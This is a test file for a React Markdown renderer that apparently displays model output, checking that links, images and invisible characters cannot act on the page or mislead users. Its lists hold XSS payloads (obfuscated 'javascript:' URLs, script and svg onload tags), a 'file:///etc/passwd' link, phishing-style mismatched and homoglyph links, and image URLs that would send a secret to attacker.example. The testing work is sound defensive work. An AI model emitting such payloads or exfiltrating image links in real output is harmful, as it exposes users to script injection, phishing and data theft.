import { act, fireEvent, render, screen } from "@testing-library/react";
import { userEvent } from "@testing-library/user-event";
import { describe, expect, test } from "vitest";
import { Markdown, type MarkdownProps } from "../../src/index.js";

const host = "https://attacker.example";

function show(text: string, props: Partial<MarkdownProps> = {}) {
  const view = render(<Markdown text={text} {...props} />);
  return { ...view, root: view.container.querySelector<HTMLElement>(".hw-md")! };
}

/** Everything that could act on the page, apart from links as they should be. */
function traces(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll("*")) {
    const name = element.localName;
    if (/^(?:picture|source|video|audio|script|style|iframe|object|embed|base|link|meta|form|svg:|math)$/.test(name))
      found.push(name);
    const isIcon = element.closest("svg.hw-icon") !== null;
    for (const { name: attribute, value } of element.attributes) {
      if (isIcon) continue;
      if (/^(?:on|xlink|action|poster|style|srcset|formaction|background$|name$|ping$|download$)/.test(attribute))
        found.push(`${name}[${attribute}]`);
      if (attribute === "href" && !/^(?:https?:\/\/|mailto:|tel:|[#/?.]|[\w%.~-]+(?:[/?#]|$))/.test(value))
        found.push(`href ${value}`);
      if (attribute === "src" && !/^data:image\/(?:png|jpeg|gif|webp|avif)[;,]/.test(value)) found.push(`src ${value}`);
      if (attribute === "id" && !value.includes("-note-") && !value.includes("-reference-")) found.push(`id ${value}`);
    }
  }
  return found;
}

/** No link and no picture at all comes of these. */
const refused = [
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](java&#x0A;script:alert(1))",
  "[x](java&#13;script:alert(1))",
  "[x](java&#9;script:alert(1))",
  "[x](&#1;javascript:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](&#32;javascript:alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](javascript&#x3A;alert(1))",
  "[x](java\u200Bscript:alert(1))",
  "[x](\u200Bjavascript:alert(1))",
  "[x](\uFEFFjavascript:alert(1))",
  "[x](\u202Ejavascript:alert(1))",
  "[x](java\u00ADscript:alert(1))",
  "[x](javascript://%0aalert(1))",
  "[x](javascript:https://example.com/)",
  "[x][y]\n\n[y]: javascript:alert(1)",
  "[y]\n\n[y]: <javascript:alert(1)>",
  "<javascript:alert(1)>",
  "<JAVASCRIPT:alert(1)>",
  "[x](vbscript:msgbox(1))",
  "<vbscript:alert(1)>",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](data:image/svg+xml,<svg>)",
  "[x](data:image/png;base64,AA)",
  "[x](blob:https://example.com/1)",
  "[x](filesystem:https://example.com/1)",
  "[x](file:///etc/passwd)",
  "[x](about:blank)",
  "[x](view-source:https://example.com)",
  "[x](ms-msdt:/id)",
  "[x](intent://example.com#Intent;end)",
  "[x](chrome://settings)",
  "[x](ftp://example.com/a)",
  "[x](ws://example.com)",
  "[x](1javascript:alert(1))",
  "[x](unknown:alert)",
  "[x](:alert)",
  "[x](https://)",
  "[x](http://%)",
  "[x](https://exa mple.com)",
  "[x]()",
  "[x](<>)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](data:text/html,x)",
  "![x](data:image/svg+xml;base64,AA)",
  "![x](data:image/pngx;base64,AA)",
  "![x](data:IMAGE/SVG+XML,x)",
  "![x](blob:https://example.com/1)",
  "![x](mailto:a@example.com)",
  "![x](tel:1)",
  "![x](file:///a.png)",
  "![x]()",
  `<img src="${host}/a.png" onerror="alert(1)">`.replace("https:", "x:"),
  "<script>alert(1)</script>",
  "<svg onload=alert(1)>",
  "<style>*{display:none}</style>",
  `<div id="app" style="position:fixed">x</div>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<form action="/logout"><input name="attributes"></form>`,
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
];

describe("what a model must not make", () => {
  test.for(refused)("no link, no picture: %j", (text) => {
    const { root } = show(text);
    expect(root.querySelector("a[href], img, button")).toBeNull();
    expect(traces(root)).toEqual([]);
    expect(root.textContent).not.toBe("");
  });

  test.for(refused)("nor at any moment of its arrival: %j", (text) => {
    const { root, rerender } = show("", { streaming: true });
    for (let length = 1; length <= text.length; length++) {
      rerender(<Markdown text={text.slice(0, length)} streaming />);
      expect(traces(root), text.slice(0, length)).toEqual([]);
      expect(root.querySelector("img")).toBeNull();
    }
  });

  test.for([
    `![x](${host}/?q=secret)`,
    `![x](//attacker.example/?q=secret)`,
    `![x](\\\\attacker.example/?q=secret)`,
    `![x](/logout)`,
    `![x][y]\n\n[y]: ${host}/a.png`,
    `[![x](${host}/a.png)](https://example.com)`,
  ])("a request before somebody asks for it, at any moment: %j", (text) => {
    const { root, rerender } = show("", { streaming: true });
    for (let length = 1; length <= text.length; length++) {
      rerender(<Markdown text={text.slice(0, length)} streaming={length < text.length} />);
      expect(root.querySelector("img")).toBeNull();
    }
    expect(traces(root)).toEqual([]);
  });
});

/** Address as it is written → `href` and the host that is told. */
const opened: readonly (readonly [string, string, string])[] = [
  ["https://example.com", "https://example.com/", "example.com"],
  ["HTTP://EXAMPLE.com:8080/a", "http://example.com:8080/a", "example.com:8080"],
  ["//example.com/a", "https://example.com/a", "example.com"],
  ["\\\\\\\\example.com/a", "https://example.com/a", "example.com"],
  ["/\\\\example.com/a", "https://example.com/a", "example.com"],
  ["<https:example.com>", "https://example.com/", "example.com"],
  ["https:///example.com", "https://example.com/", "example.com"],
  ["https://bank.example@evil.example/", "https://evil.example/", "evil.example"],
  ["https://bank.example%2Flogin:x@evil.example/", "https://evil.example/", "evil.example"],
  ["https://bank.example\\\\@evil.example", "https://bank.example/@evil.example", "bank.example"],
  ["https://аpple.com", "https://xn--pple-43d.com/", "xn--pple-43d.com"],
  ["https://exam\u200Bple.com", "https://example.com/", "example.com"],
  ["https://example。com", "https://example.com/", "example.com"],
  ["https://0x7f.1/", "https://127.0.0.1/", "127.0.0.1"],
  ["https://example.com/a\u202Eb", "https://example.com/a%E2%80%AEb", "example.com"],
  ["mailto:a@example.com", "mailto:a@example.com", "a@example.com"],
  ["tel:+49123", "tel:+49123", "+49123"],
  ["/docs/a", "/docs/a", "/docs/a"],
  ["docs/a\u200B", "docs/a%E2%80%8B", "docs/a%E2%80%8B"],
  ["#part", "#part", "#part"],
  ["?q=a:b", "?q=a:b", "?q=a:b"],
  ["javascript%3Aalert(1)", "javascript%3Aalert(1)", "javascript%3Aalert(1)"],
];

describe("links", () => {
  test.for(opened)("to %j open %j and say %j", ([written, href, told]) => {
    show(`[words](${written})`);
    const link = screen.getByRole("link");
    expect(link.getAttribute("href")).toBe(href);
    expect(link.dataset["host"]).toBe(told);
    expect(link.title).toBe(href);
    expect([link.getAttribute("rel"), link.getAttribute("target")]).toEqual(["noopener noreferrer nofollow", "_blank"]);
  });

  test("tell the real address first, whatever title the model gives", () => {
    show('[x](https://evil.example "https://bank.example\u202E")');
    expect(screen.getByRole("link").title).toBe("https://evil.example/\nhttps://bank.example[U+202E]");
  });

  test.for<[string, string | null]>([
    ["[bank.example](https://evil.example)", "evil.example"],
    ["[https://bank.example/login](https://evil.example)", "evil.example"],
    ["[**bank**.example](https://evil.example)", "evil.example"],
    ["[`bank.example`](https://evil.example)", "evil.example"],
    ["[Go to bank.example now](https://evil.example)", "evil.example"],
    ["[ＢＡＮＫ．example](https://evil.example)", "evil.example"],
    ["[bank。example](https://evil.example)", "evil.example"],
    ["[b\u200Bank.example](https://evil.example)", "evil.example"],
    ["[аpple.com](https://apple.com)", "apple.com"],
    ["[apple.com](https://аpple.com)", "xn--pple-43d.com"],
    ["[127.0.0.1](https://evil.example)", "evil.example"],
    ["[https://localhost](https://evil.example)", "evil.example"],
    ["[you@bank.example](mailto:me@evil.example)", "me@evil.example"],
    ["[bank.example](/logout)", "/logout"],
    ["[bank.example](/bank.example)", "/bank.example"],
    ["[bank.example](https://bank.example.evil.example)", "bank.example.evil.example"],
    [`[${"a".repeat(3_000)}](https://evil.example)`, "evil.example"],
    ["[bank.example](https://www.bank.example/login)", null],
    ["[https://bank.example/a](https://bank.example/b)", null],
    ["[our page](https://bank.example)", null],
    ["[a@b.example](mailto:a@b.example)", null],
    ["[docs/README.md](docs/README.md)", null],
    ["https://bank.example/a", null],
    ["[version 1.2.3, e.g. this](https://bank.example)", null],
  ])("whose words name another host show the real one beside them: %s", ([text, told]) => {
    const { root } = show(text);
    expect(root.querySelector(".hw-md-host")?.textContent ?? null).toBe(told === null ? null : ` (${told})`);
  });

  test("are inert before their address is complete, and the same element afterwards", () => {
    const { root, rerender } = show("See [the docs](https://evil", { streaming: true });
    const before = root.querySelector("a")!;
    expect(before).toHaveTextContent("the docs");
    expect([...before.attributes].map(({ name }) => name)).toEqual(["class"]);
    expect(screen.queryByRole("link")).toBeNull();
    rerender(<Markdown text="See [the docs](https://evil.example)" streaming />);
    expect(screen.getByRole("link")).toBe(before);
  });
});

describe("pictures", () => {
  test("of other hosts are loaded on demand, without telling where they are shown", async () => {
    const user = userEvent.setup();
    const { root } = show(`![A cat](${host}/a.png)`);
    const button = screen.getByRole("button", { name: "A cat Show image from attacker.example" });
    await user.click(button);
    const image = screen.getByRole("img", { name: "A cat" });
    expect(image.getAttribute("src")).toBe(`${host}/a.png`);
    expect([image.getAttribute("referrerpolicy"), image.getAttribute("loading")]).toEqual(["no-referrer", "lazy"]);
    expect(root.contains(document.activeElement)).toBe(true);
    fireEvent.error(image);
    expect(root.querySelector("img")).toBeNull();
    expect(root).toHaveTextContent("A cat");
  });

  test("asked for once are not asked for in another place", async () => {
    const user = userEvent.setup();
    const { rerender, root } = show(`![A](${host}/a.png)`);
    await user.click(screen.getByRole("button"));
    rerender(<Markdown text={`![A](${host}/b.png)`} />);
    expect(root.querySelector("img")).toBeNull();
  });

  test.for<[string, string, boolean]>([
    ["https://images.example/a.png", "https://images.example", true],
    ["https://images.example:444/a.png", "https://images.example", false],
    ["http://images.example/a.png", "https://images.example", false],
    ["https://images.example.evil.example/a.png", "https://images.example", false],
    ["https://images.example@evil.example/a.png", "https://images.example", false],
    ["/a.png", "self", true],
    ["//evil.example/a.png", "self", false],
    ["data:image/png;base64,AA", "", true],
    ["data:image/JPEG,AA", "", true],
  ])("%s, allowed is %j: loaded at once is %s", ([url, origin, isLoaded]) => {
    const { root } = show(`![a](${url})`, { imageOrigins: [origin] });
    expect(root.querySelector("img") !== null).toBe(isLoaded);
  });

  test("in a link are no button in it", () => {
    const { root } = show(`[![Logo](${host}/a.png)](https://example.com)`);
    expect(root.querySelector("a button")).toBeNull();
    expect(screen.getByRole("link")).toHaveTextContent("Logo (attacker.example)");
  });
});

describe("invisible characters", () => {
  const marks = (root: Element) => [...root.querySelectorAll(".hw-md-invisible")].map(({ textContent }) => textContent);

  test.for<[string, string[]]>([
    ["[moc.elpmaxe\u202E](https://evil.example)", ["U+202E"]],
    ["[**a\u200Bb**](https://evil.example)", ["U+200B"]],
    ["`a\u2066b\u2069`", ["U+2066", "U+2069"]],
    ["```\nif (x\u202E) {\u00AD}\u{E0041}\n```", ["U+202E", "U+00AD", "U+E0041"]],
    ["[a\u200Db](https://evil.example)", ["U+200D"]],
    ["```\u200Bts\nx\n```", ["U+200B"]],
    ["[👨‍👩‍👧 می‌شود क्‍ष 🏴󠁧󠁢󠁥󠁮󠁧󠁿](https://example.com)", []],
    ["`👩🏽‍🚀 ❤️‍🔥`", []],
    ["plain 👨‍👩‍👧", []],
  ])("are named in words of links and in code: %j", ([text, names]) => {
    const { root } = show(text);
    expect(marks(root)).toEqual(names);
  });

  test("cost no more than they are many", () => {
    const run = "\u{E0041}\u200D\u202E".repeat(20_000);
    const before = process.cpuUsage();
    const { root } = show(`\`${run.slice(0, 2_000)}\`\n\n    ${run.slice(0, 6_000)}`);
    act(() => {});
    expect(marks(root).length).toBeGreaterThan(2_000);
    expect(process.cpuUsage(before).user).toBeLessThan(5_000_000);
  });
});
